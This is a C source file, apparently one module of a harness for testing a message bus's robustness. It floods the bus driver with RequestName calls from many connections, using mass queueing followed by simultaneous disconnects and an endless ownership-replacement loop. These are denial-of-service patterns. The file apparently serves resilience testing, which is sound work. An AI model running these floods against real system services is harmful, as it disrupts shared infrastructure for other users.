/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#define NAMES 400
#define REPLACE 3 /* ALLOW_REPLACEMENT, REPLACE_EXISTING */
#define PAUSE_US 300000

static void put_request(struct buffer *out, int n, uint32_t flags)
{
    struct buffer body = {0};
    char name[64];
    snprintf(name, sizeof(name), "org.example.Queued%d", n);
    buffer_string(&body, name);
    buffer_u32(&body, flags);
    put_driver_call(out, "RequestName", "su", &body);
    free(body.data);
}

/* --count connections queue for the same NAMES names, and all disconnect at once, the owner first. */
void name_queues(void *argument)
{
    int n = attack_options.count;
    struct connection *all = calloc((size_t)n, sizeof(*all));
    struct buffer out = {0};
    (void)argument;
    if (!all)
        die("out of memory");
    for (int i = 0; i < NAMES; i++)
        put_request(&out, i, 0);
    hostile_set_uid();
    for (int i = 0; i < n; i++) {
        attack_join(&all[i]);
        attack_pour(&all[i], &out);
    }
    for (int i = 0; i < n; i++)
        while (!connection_try(&all[i], attack_sync))
            attack_join(&all[i]);
    process_ready();
    usleep(PAUSE_US);
    for (int i = 0; i < n; i++) {
        connection_close(&all[i]);
        atomic_fetch_add(&shared->harm, NAMES);
    }
    pause();
}

/* --count connections replace one another as owners of NAMES names. */
void name_disputes(void *argument)
{
    int n = attack_options.count;
    struct connection *all = calloc((size_t)n, sizeof(*all));
    struct buffer out = {0};
    (void)argument;
    if (!all)
        die("out of memory");
    for (int i = 0; i < NAMES; i++)
        put_request(&out, i, REPLACE);
    hostile_set_uid();
    for (int i = 0; i < n; i++)
        attack_join(&all[i]);
    process_ready();
    for (int i = 0;; i = (i + 1) % n) {
        attack_pour(&all[i], &out);
        atomic_fetch_add(&shared->harm, NAMES);
    }
}
